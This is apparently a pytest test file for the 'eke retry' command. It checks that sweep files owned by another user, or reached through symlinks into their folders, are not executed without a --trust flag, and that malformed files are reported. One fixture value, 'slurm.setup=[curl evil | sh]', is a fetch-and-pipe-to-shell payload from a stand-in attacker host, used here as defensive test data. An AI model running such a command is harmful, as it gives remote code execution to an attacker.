"""`eke retry` of a sweep.json that another user made: its command is not run."""

import json
import os
import shutil
from pathlib import Path

import pytest
from two_users import ATTACKER, VICTIM, hand, machine, needs_root  # noqa: F401  # fixture that a test names

from eke import cli, workflows
from eke.cli import run_commands  # noqa: F401  # imported before the user changes, who may not read it

SETUP = "slurm.setup=[curl evil | sh]"


@pytest.fixture
def commands(monkeypatch):
    """What was run, and where."""
    found = []
    monkeypatch.setattr(
        workflows, "main", lambda typed: found.append((list(typed), os.getcwd())) or 0
    )
    monkeypatch.chdir("/")
    return found


def make_sweep(runs, owner: int, file_owner: int | None = None):
    """A sweep with one failed run."""
    folder = runs / "sweep-1"
    folder.mkdir(parents=True)
    cell = {"overrides": ["seed=1"], "run_id": "1", "folder": "", "outcome": "crashed"}
    content = {"cells": [cell], "directory": str(runs), "command": ["-m", SETUP, "seed=1,2"]}
    (folder / "sweep.json").write_text(json.dumps(content))
    hand(folder, owner)
    if file_owner is not None:
        os.chown(folder / "sweep.json", file_owner, file_owner)
    return folder


def retry(folder, *more: str, user: int = VICTIM) -> int:
    """The command of a user, in this process: it is Python's own, and may lie in root's folders."""
    os.setegid(user)
    os.seteuid(user)
    try:
        return cli.main(["retry", *more, str(folder)])
    finally:
        os.seteuid(0)
        os.setegid(0)


@pytest.fixture
def runs(machine: Path) -> Path:  # noqa: F811  # the fixture by its name
    return machine


@needs_root
@pytest.mark.parametrize(
    ("owner", "file_owner"),
    [(ATTACKER, None), (ATTACKER, VICTIM), (VICTIM, ATTACKER)],
    ids=["all", "folder", "file"],
)
def test_retry_of_a_foreign_sweep_is_rejected(runs, owner, file_owner, commands, capsys) -> None:
    folder = make_sweep(runs, owner, file_owner)
    assert retry(folder) == 2
    told = capsys.readouterr()
    assert not commands
    assert "belongs to another user" in told.err
    assert f"eke retry {folder} --trust" in told.err
    assert "curl" not in told.out


@needs_root
def test_trusted_retry_prints_command_and_folder_first(runs, commands, capsys) -> None:
    folder = make_sweep(runs, ATTACKER)
    assert retry(folder, "--trust") == 0
    assert commands == [(["-m", SETUP, "seed=1,2"], str(runs))]
    first = capsys.readouterr().err.splitlines()[0]
    assert str(runs) in first
    assert "'slurm.setup=[curl evil | sh]'" in first


@needs_root
@pytest.mark.parametrize("user", [VICTIM, 0], ids=["user", "root"])
def test_own_sweep_needs_no_trust_flag(runs, user, commands) -> None:
    assert retry(make_sweep(runs, user), user=user) == 0
    assert len(commands) == 1


@needs_root
def test_root_does_not_run_commands_of_users(runs, commands, capsys) -> None:
    assert retry(make_sweep(runs, VICTIM), user=0) == 2
    assert not commands


@needs_root
def test_link_to_own_file_in_a_foreign_folder_is_rejected(runs, commands, capsys) -> None:
    own = make_sweep(runs / "own", VICTIM)
    other = runs / "other"
    shutil.copytree(own, other)
    (other / "sweep.json").unlink()
    (other / "sweep.json").symlink_to(own / "sweep.json")
    hand(other, ATTACKER)
    assert retry(other) == 2
    assert not commands


@pytest.mark.parametrize(
    "content",
    ["[]", '"x"', "{}", '{"directory": 1, "command": ["-m"], "cells": []}', "[" * 200_000,
     '{"directory": "/", "command": ["-m", {"a": 1}], "cells": []}',
     '{"directory": "/", "command": ["-m"], "cells": [1]}'],
    ids=["list", "text", "nothing", "number", "deep", "mapping", "cell"],
)  # fmt: skip
def test_invalid_sweep_file_is_named(content, tmp_path, commands, capsys) -> None:
    (tmp_path / "sweep.json").write_text(content)
    assert cli.main(["retry", str(tmp_path)]) == 1
    assert str(tmp_path / "sweep.json") in capsys.readouterr().err
    assert not commands
